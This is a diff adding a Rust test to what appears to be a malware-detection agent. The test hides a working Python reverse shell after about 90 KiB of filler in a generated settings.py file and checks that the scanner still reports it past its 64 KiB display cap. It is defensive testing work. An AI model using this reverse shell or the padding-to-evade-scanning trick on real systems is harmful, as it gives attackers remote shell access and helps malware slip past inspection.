@@ -942,3 +942,48 @@ fn python_c_exec_of_base64_reverse_shell_is_reported() {
     let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
     assert!(reasons.contains("decoded"), "{reasons}");
 }
+
+/// A Python reverse shell appended after ~90 KiB of module data, past the 64 KiB display cap:
+/// the finding displays the capped contents, and the model scored the whole file
+/// (`ScriptInfo::scoring_text`). Before the scoring cap was separate from the display cap, the
+/// classifier saw only the filler and nothing was reported.
+#[test]
+fn python_payload_after_the_display_cap_is_reported() {
+    let images = require_containers!();
+    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-big", |p| {
+        let mut body = String::from("# Generated settings.\n");
+        let mut i = 0usize;
+        while body.len() < 90 * 1024 {
+            body.push_str(&format!(
+                "ROW_{i} = {{'name': 'item {i}', 'size': {}, 'tags': ['a{}', 'b{}']}}\n",
+                i * 7 % 1000,
+                i % 13,
+                i % 17
+            ));
+            i += 1;
+        }
+        body.push_str(&format!(
+            "import socket, subprocess, os\n\
+             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+             s.connect(('127.0.0.1', {p}))\n\
+             os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+             subprocess.call(['/bin/sh', '-i'])\n"
+        ));
+        sh(
+            "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/settings.py && cd /opt/job && exec python3 settings.py"
+                .to_string(),
+        )
+        .into_iter()
+        .chain([body])
+        .collect()
+    });
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    let script = &m["processes"][0]["script"];
+    assert_eq!(script["path"], "settings.py");
+    let shown = script["contents"].as_str().unwrap();
+    assert_eq!(shown.len(), 64 * 1024, "the display cap still applies");
+    assert!(!shown.contains("socket"), "the payload is past the cap");
+    let written = c.exec_ok(&["cat", "/opt/job/settings.py"]).unwrap();
+    assert_eq!(script["size"], written.len());
+    assert_eq!(script["sha256"], sha256_hex(written.as_bytes()));
+}
